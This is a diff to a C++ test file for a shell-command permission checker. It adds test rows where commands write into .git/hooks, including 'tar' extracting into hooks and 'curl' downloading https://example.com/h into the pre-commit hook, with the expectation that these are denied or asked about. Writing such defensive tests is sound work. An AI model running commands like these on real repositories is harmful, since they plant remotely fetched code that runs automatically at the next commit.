@@ -160,6 +160,10 @@ private slots:
                             << true;
         row("make -C .git") << "make -C .git/hooks" << QStringList{"Bash(make:*)"}
                             << "ask ask deny ask" << true;
+        row("tar into hooks") << "tar -xf hooks.tar -C .git/hooks" << QStringList{"Bash(tar:*)"}
+                              << "ask ask deny ask" << true;
+        row("curl a hook") << "curl -so .git/hooks/pre-commit https://example.com/h" << none
+                           << "ask ask deny ask" << true;
         row("loop writes a hook") << "for f in pre-commit; do echo x > .git/hooks/$f; done" << none
                                   << "ask ask deny ask" << true;
         // What the analysis sees writing there stays denied in every mode.
